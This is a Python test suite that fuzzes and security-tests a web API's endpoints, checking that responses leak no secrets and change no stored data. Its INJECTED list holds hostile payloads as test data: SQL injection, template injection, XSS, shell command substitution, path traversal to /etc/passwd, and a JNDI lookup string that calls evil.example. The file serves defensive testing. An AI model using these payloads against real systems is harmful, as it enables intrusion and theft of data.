"""What strangers and fools send: clean errors, nothing leaked, nothing harmed. Walks every address there is."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import schemathesis
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings

from serving.doors import Role
from serving.ledger.tables import metadata
from serving.openapi.document import document
from serving.problems import MEDIA_TYPE, Kind
from serving.settings import Settings
from tests.serving.conftest import Running
from tests.serving.keyrings import Keyring, keyring
from tests.serving.ledger.rows import recorder
from tests.serving.test_openapi import unknowable, unrepeated
from tests.serving.walked import Asked, walked

Run = Callable[..., Running]

EVERY = walked(document(Settings()))
KEYED = [asked for asked in EVERY if asked.opens_to is not None]
WITH_BODY = [asked for asked in EVERY if asked.body is not None]
JSON = {"content-type": "application/json"}
OFTEN = 10**9  # requests a minute: these tests are about something else

INJECTED = (
    *("' OR '1'='1", "'; DROP TABLE keys; --", '" UNION SELECT digest, secret FROM keys, pepper --', "1); --"),
    *("{{7919*7907}}", "${7919*7907}", "<%= 7919*7907 %>", "#{7919*7907}", "{0.__class__.__mro__}", "%(secret)s%s%n"),
    *("<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "$(id)", "`id`", "|id"),
    *("../../../../etc/passwd", "..\\..\\x", "a\r\nSet-Cookie: a=b", "a\x00b", "\u202e\u0000", "\U0001d49c" * 300),
    "a" * 20_000,
)
LEAKED = ("62615533", "root:", "Traceback", "sqlite3", "psycopg", "sqlalchemy", "near ", "syntax", ".py", "<class")


def told(asked: Asked) -> str:
    return f"{asked.method} {asked.path}"


@pytest.fixture
def held(tmp_path: Path) -> Iterator[Keyring]:
    made = keyring(tmp_path)
    made.recorder = recorder(tmp_path, made.database)
    made.recorder.start()
    yield made
    made.recorder.stop()


def clean(reply: httpx.Response, held: Keyring) -> None:
    """No failure of ours, a problem document where it is an error, and nothing of what we know in it."""
    assert reply.status_code < 500, reply.text
    if reply.status_code >= 400:
        assert reply.headers["content-type"] == MEDIA_TYPE
        assert reply.json()["type"] in {kind.uri for kind in Kind}
    said = f"{reply.headers} {reply.text}"
    with held.database.reading() as connection:
        secrets = connection.execute(sa.text("SELECT secret FROM pepper UNION SELECT digest FROM keys")).scalars().all()
    for word in (*LEAKED, *secrets):
        assert word not in said, (word, said[:500])
    assert "set-cookie" not in reply.headers


def rows(held: Keyring) -> dict[str, int]:
    with held.database.reading() as connection:
        count = sa.func.count()
        return {
            table.name: connection.execute(sa.select(count).select_from(table)).scalar_one()
            for table in metadata.sorted_tables
        }


def let_in(run: Run, held: Keyring, **more: Any) -> Running:
    return run(desk=held.desk, rate_per_minute=OFTEN, **more)


def test_every_address_is_walked() -> None:
    assert len(EVERY) == sum(len(item) for item in document(Settings())["paths"].values())
    assert any(asked.body is not None for asked in KEYED)


@pytest.mark.parametrize("asked", EVERY, ids=told)
def test_the_request_that_is_walked_with_is_answered(asked: Asked, run: Run, held: Keyring) -> None:
    reply = asked.sent(let_in(run, held).client, headers=held.headers("admin"))
    assert reply.status_code < 500
    assert reply.status_code not in {400, 401, 403, 405, 415, 422, 429}, reply.text


@pytest.mark.parametrize("asked", EVERY, ids=told)
def test_what_is_injected_into_any_text_is_text(asked: Asked, run: Run, held: Keyring) -> None:
    client, before, tried = let_in(run, held).client, rows(held), 0
    for text in INJECTED:
        for _, hostile in asked.with_texts(text):
            clean(hostile.sent(client, headers=held.headers("admin")), held)
            tried += 1
    assert tried >= len(INJECTED)
    after = rows(held)
    for table in ("keys", "revocations", "pepper", "sheets", "signatures"):
        assert after[table] == before[table], table


@pytest.mark.parametrize("text", INJECTED, ids=range(len(INJECTED)))
def test_what_is_injected_into_a_header_is_refused_or_ignored(text: str, run: Run, held: Keyring) -> None:
    client, raw = let_in(run, held).client, text.encode()
    names = ("x-request-id", "idempotency-key", "accept-language", "cookie", "user-agent", "x-forwarded-for", "referer")
    for asked in EVERY:
        for name in names:
            headers = [(name.encode(), raw), *((k.encode(), v.encode()) for k, v in held.headers("admin").items())]
            clean(asked.sent(client, headers=headers), held)
    for name, value in ((b"authorization", b"Bearer " + raw), (b"authorization", raw), (b"x-api-key", raw)):
        reply = client.get("/v1/definition", headers=[(name, value)])
        clean(reply, held)
        assert reply.status_code in {401, 429}


MALFORMED = (
    *(b"", b" ", b"\xff\xfe\x00", b'{"a": "\xff"}', b"\x80\x04\x95.", b"{", b"[" * 200_000, b'{"a":' * 100_000, b"nul"),
    *(b'{"leads": NaN}', b'{"leads": 1e999}', b'{"leads": "\\ud800"}', b'{"leads": [' + b"{}," * 200_000 + b"{}]}"),
    *(b"[]", b"null", b"0", b'"a"', b"{}", b'{"a": 1}', b"-" * 1000, b"9" * 100_000),
)


@pytest.mark.parametrize("asked", WITH_BODY, ids=told)
def test_a_malformed_body_is_refused_with_a_problem_document(asked: Asked, run: Run, held: Keyring) -> None:
    client = let_in(run, held).client
    for body in MALFORMED:
        reply = client.request(asked.method, asked.address, content=body, headers=held.headers("admin") | JSON)
        clean(reply, held)
        assert 400 <= reply.status_code < 500, body[:40]
    for headers in ({}, {"content-type": "text/plain"}, JSON | {"content-encoding": "gzip"}):
        reply = client.request(asked.method, asked.address, content=b"{}", headers=held.headers("admin") | headers)
        clean(reply, held)
        assert reply.status_code == 415


@pytest.mark.parametrize("asked", WITH_BODY, ids=told)
def test_an_endless_body_is_left_where_it_is_too_large(asked: Asked, run: Run, held: Keyring) -> None:
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        while True:
            sent += 1
            assert sent < 1000, "it reads on"
            yield b" " * 1000

    client = let_in(run, held, max_body_bytes=20_000).client
    for holder, pieces, status in (("admin", 21, 413), ("none", 0, 401), ("unknown", 0, 401)):
        sent = 0
        headers = held.headers(holder) | JSON
        reply = client.request(asked.method, asked.address, content=endless(), headers=headers)
        assert (reply.status_code, sent) == (status, pieces)
        clean(reply, held)


def test_huge_headers_are_as_any_others(run: Run, held: Keyring) -> None:
    client = let_in(run, held).client
    for headers in (
        {"x-api-key": "a" * 1_000_000},
        {"authorization": "Bearer " + held.keys["admin"] + "a" * 1_000_000},
        {"authorization": "Bearer " * 100_000},
        {f"x-{n}": "a" for n in range(1000)},
    ):
        reply = client.get("/v1/definition", headers=headers)
        clean(reply, held)
        assert reply.status_code == 401
    many = [("x-api-key", f"accord_{n:016x}_{'A' * 43}") for n in range(2000)] + [("x-api-key", held.keys["admin"])]
    assert client.get("/v1/definition", headers=many).status_code == 401


@pytest.mark.slow
@pytest.mark.parametrize("role", Role)
def test_a_fuzzer_with_a_key_of_each_role_finds_clean_errors_only(
    role: Role, run: Run, held: Keyring, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("serving.rates.FAILED_PER_MINUTE", OFTEN)  # it tries without its key again and again
    running = let_in(run, held)
    fuzzed = schemathesis.openapi.from_asgi("/openapi.json", running.app)
    bounded = settings(max_examples=8, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
    shown = held.headers(str(role)) | {"X-API-Key": held.keys[str(role)]}  # it would make one up
    seen: dict[str, set[int]] = {}
    for operation in (result.ok() for result in fuzzed.get_all_operations()):

        @given(case=operation.as_strategy())
        @bounded
        def holds(case: schemathesis.Case) -> None:
            reply = unrepeated(case).call_and_validate(headers=shown, excluded_checks=unknowable(case.method))
            clean(httpx.Response(reply.status_code, headers=_flat(reply.headers), content=reply.content), held)
            seen.setdefault(f"{case.method.upper()} {case.path}", set()).add(reply.status_code)

        holds()
    assert {told(asked) for asked in KEYED} <= set(seen)
    for asked in KEYED:
        opens_to = asked.opens_to or frozenset()
        assert (seen[told(asked)] == {403}) is (str(role) not in opens_to), told(asked)


def _flat(headers: Any) -> list[tuple[str, str]]:
    return [(name, value) for name, values in headers.items() for value in values]


def test_the_document_says_of_each_address_what_key_it_takes() -> None:
    own = document(Settings())
    assert set(own["components"]["securitySchemes"]) == {"bearer", "header"}
    for asked in EVERY:
        operation = own["paths"][asked.path][asked.method.lower()]
        refusals = {"401", "403", "429", "503"} & set(operation["responses"])
        if asked.opens_to is None:
            assert "security" not in operation
            assert refusals <= {"503"}
        else:
            assert operation["security"] == [{"bearer": []}, {"header": []}]
            assert refusals == {"401", "403", "429", "503"}
            for role in Role:
                assert (str(role) in operation["description"].rpartition("Takes a key for ")[2]) is (
                    role in asked.opens_to
                )
